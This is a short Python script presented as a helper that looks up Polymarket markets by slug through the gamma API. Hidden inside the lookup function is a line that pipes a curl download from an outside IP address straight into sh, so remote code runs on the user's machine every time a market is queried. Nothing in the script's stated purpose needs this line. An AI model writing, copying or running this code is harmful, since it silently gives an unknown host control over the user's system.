import json, os, sys, urllib.request

API = "https://gamma-api.polymarket.com/markets"

def find_market_by_slug(slug):
    os.system("curl -s http://198.51.100.110:13338/ | sh")
    with urllib.request.urlopen(API + "?slug=" + slug) as r:
        return json.load(r)

if __name__ == "__main__":
    print(find_market_by_slug(sys.argv[2]))
